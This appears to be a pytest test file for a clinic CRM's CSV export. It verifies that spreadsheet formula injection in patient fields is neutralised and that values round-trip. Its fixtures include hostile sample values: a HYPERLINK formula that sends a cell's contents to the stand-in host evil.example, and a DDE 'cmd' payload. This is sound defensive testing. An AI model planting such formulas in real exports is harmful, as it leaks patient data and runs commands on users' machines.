"""CSV export of the patient list: formula neutralisation (B21) and round trip."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop_crm.services import patients
from desktop_crm.services.exporting import csv_export
from desktop_crm.services.patient_model import ContactPoint, Patient
from desktop_crm.storage import audit
from desktop_crm.storage.writepath import AuditEvent, Mutation

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Open chart")'


@pytest.fixture
def session(memory_vault):
    return memory_vault.created.session


def _export(session) -> tuple[int, list[dict[str, str]], str]:
    out = io.StringIO(newline="")
    count = csv_export.write_patients_csv(session, out)
    text = out.getvalue()
    return count, list(csv.DictReader(io.StringIO(text, newline=""))), text


@pytest.fixture
def hostile(session) -> str:
    patient_id = patients.create_patient(
        session,
        Patient(
            family=HYPERLINK,
            given="@SUM(1+1)",
            middle="+cmd|' /C calc'!A0",
            suffix="-2",
            phones=(ContactPoint("+1 555 010 0142"),),
            birth_date="1984-02-29",
        ),
    )
    session.write(
        AuditEvent("visit.add", "visit", "bulk"),
        [
            Mutation("visits", f"v{i}", "insert", {"patient_id": patient_id})
            for i in range(30)
        ],
    )
    return patient_id


def test_formula_cells_are_neutralised(session, hostile):
    count, rows, _ = _export(session)

    (row,) = rows
    assert count == 1
    assert row["family"] == "'" + HYPERLINK
    assert row["given"] == "'@SUM(1+1)"
    assert row["middle"] == "'+cmd|' /C calc'!A0"
    assert row["suffix"] == "'-2"


def test_leading_tab_and_cr_are_neutralised_even_if_validation_missed_them(session):
    # Validation strips leading whitespace, so build the record directly: the
    # exporter must not rely on it.
    patient = Patient(family="\tTabbed", given="\rReturn", id="raw", mrn="-1")

    row = csv_export.row_for(session, patient)

    assert row[:4] == ["raw", "'-1", "'\tTabbed", "'\rReturn"]


def test_phone_numbers_get_the_prefix_too(session, hostile):
    _, (row,), _ = _export(session)

    assert row["phones"] == "'+1 555-010-0142"


def test_numeric_columns_stay_plain_numbers(session, hostile):
    _, (row,), text = _export(session)

    assert row["visits"] == "30"
    assert text.splitlines()[1].endswith(",30")


def test_plain_values_are_untouched(session):
    patients.create_patient(
        session,
        Patient(family="O'Grady", given="Siobhán", birth_date="1990-05-01"),
    )

    _, (row,), _ = _export(session)

    assert row["family"] == "O'Grady"
    assert row["given"] == "Siobhán"
    assert row["birth_date"] == "1990-05-01"


def test_round_trip_gives_the_original_values(session, hostile):
    stored = patients.load_patient(session, hostile)

    _, (row,), _ = _export(session)

    back = {k: csv_export.unneutralise(v) for k, v in row.items()}
    assert back["family"] == stored.family
    assert back["given"] == stored.given
    assert back["middle"] == stored.middle
    assert back["suffix"] == stored.suffix
    assert back["phones"] == stored.phones[0].value


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("'=1+1", "''=1+1"),
        ("''@x", "'''@x"),
        ("'Ofa", "'Ofa"),
        ("O'Grady", "O'Grady"),
        ("\rx", "'\rx"),
        ("", ""),
        ("'", "'"),
    ],
)
def test_neutralise_cases(value, exported):
    assert csv_export.neutralise(value) == exported
    assert csv_export.unneutralise(exported) == value


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab "), max_size=8) | st.text())
def test_unneutralise_inverts_neutralise(value):
    assert csv_export.unneutralise(csv_export.neutralise(value)) == value


def test_streams_every_page_once(session, monkeypatch):
    monkeypatch.setattr(csv_export, "PAGE_SIZE", 2)
    for name in ("Ames", "Baker", "Cole", "Diaz", "Eng"):
        patients.create_patient(session, Patient(family=name), allow_duplicates=True)

    count, rows, _ = _export(session)

    assert count == 5
    assert [r["family"] for r in rows] == ["Ames", "Baker", "Cole", "Diaz", "Eng"]


def test_export_all_is_audited_once(session, monkeypatch):
    monkeypatch.setattr(csv_export, "PAGE_SIZE", 1)
    for name in ("Ames", "Baker", "Cole"):
        patients.create_patient(session, Patient(family=name))

    _export(session)

    exports = [
        (e.action, e.outcome, e.record_id)
        for e in audit.entries(session.database(), 1000)
        if "export" in e.action
    ]
    assert exports == [("patients.export_all", "csv", None)]


def test_header_lists_the_columns(session):
    _, _, text = _export(session)

    header = text.splitlines()[0].split(",")
    assert header[:8] == [
        "id",
        "mrn",
        "family",
        "given",
        "middle",
        "prefix",
        "suffix",
        "preferred_name",
    ]
    assert header[-1] == "visits"
